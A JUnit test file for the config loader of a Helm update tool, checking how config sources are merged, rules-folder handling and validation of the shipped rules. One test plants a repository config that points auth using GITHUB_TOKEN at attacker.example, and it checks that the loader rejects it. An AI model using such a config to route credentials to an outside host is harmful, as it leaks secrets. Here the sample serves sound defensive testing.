package io.kubesteward.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.kubesteward.versioning.VersionSchemes;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConfigFilesTest {
    private final ConfigFiles files = new ConfigFiles(new ConfigLoader(VersionSchemes.helm()));

    @Test
    void loads_shipped_then_repository_then_command_line(@TempDir Path repo) throws Exception {
        Files.createDirectories(repo.resolve(".steward/rules"));
        Files.createDirectories(repo.resolve("local"));
        Files.writeString(repo.resolve(".steward/config.yaml"), """
                apiVersion: steward.io/v1alpha1
                kind: Config
                mirrors:
                  - {prefix: 'https://a.io', folder: ../local}
                """);
        Files.writeString(repo.resolve(".steward/rules/10-hold.yaml"), """
                apiVersion: steward.io/v1alpha1
                kind: Rules
                packageRules:
                  - {matchPackageNames: [a], updateTypes: [patch]}
                """);
        Path cli = repo.resolve("cli.yaml");
        Files.writeString(cli, """
                apiVersion: steward.io/v1alpha1
                kind: Config
                packageRules:
                  - {matchPackageNames: [b], enabled: false}
                """);
        StewardConfig config = files.load(repo, cli);
        assertEquals(3 + ConfigFiles.SHIPPED.size(), config.sources().size());
        assertTrue(config.sources().get(0).contains("(shipped)"));
        assertEquals(4, config.packageRules().size(), "two shipped, one from the repository, one from the command line");
        assertEquals(repo.resolve("local").toString(), config.mirrors().get(0).folder());
    }

    @Test
    void a_rules_folder_comes_after_the_repository_and_before_the_command_line(@TempDir Path dir) throws Exception {
        Path rules = Files.createDirectories(dir.resolve("mounted-rules"));
        Files.writeString(rules.resolve("hold.yaml"), """
                apiVersion: steward.io/v1alpha1
                kind: Rules
                packageRules:
                  - {description: from the mounted folder, matchPackageNames: [a], updateTypes: [patch]}
                """);
        StewardConfig config = files.load(null, rules, null);
        assertEquals("from the mounted folder", config.packageRules().get(config.packageRules().size() - 1).description());
        ConfigError e = assertThrows(ConfigError.class, () -> files.load(null, dir.resolve("nope"), null));
        assertTrue(e.oneLine().contains("--rules takes a folder"), e.oneLine());
    }

    @Test
    void the_repository_cannot_choose_where_credentials_are_read_from_or_sent(@TempDir Path repo) throws Exception {
        Files.createDirectories(repo.resolve(".steward"));
        Files.writeString(repo.resolve(".steward/config.yaml"), """
                apiVersion: steward.io/v1alpha1
                kind: Config
                repositories:
                  - url: http://attacker.example/charts
                    auth: {username: x, passwordFrom: {env: GITHUB_TOKEN}}
                forge: {type: github, url: 'https://attacker.example', repository: a/b}
                """);
        ConfigError e = assertThrows(ConfigError.class, () -> files.load(repo, null));
        assertTrue(e.oneLine().contains("may not set repositories[].auth, forge"), e.oneLine());
        assertTrue(e.oneLine().startsWith(repo.resolve(".steward/config.yaml") + ":5:5: "), "at the first key it may not set: " + e.oneLine());
        assertTrue(e.oneLine().contains("--config"), e.oneLine());
    }

    @Test
    void a_missing_config_file_is_a_config_error(@TempDir Path dir) {
        ConfigError e = assertThrows(ConfigError.class, () -> files.load(null, dir.resolve("nope.yaml")));
        assertTrue(e.oneLine().contains("file not found"), e.oneLine());
    }

    /** The shipped rules go through the same validator as users' files. */
    @Test
    void every_file_in_rules_folder_is_valid() throws IOException {
        Path rules = Path.of("..", "rules");
        try (Stream<Path> list = Files.list(rules)) {
            for (Path file : list.filter(p -> p.toString().endsWith(".yaml")).toList()) {
                try {
                    new ConfigLoader(VersionSchemes.helm()).parse(file.toString(), Files.readString(file), rules);
                } catch (ConfigError e) {
                    throw new AssertionError(e.oneLine());
                }
            }
        }
        assertTrue(ConfigFiles.SHIPPED.stream().allMatch(name -> Files.exists(rules.resolve(name))));
    }
}
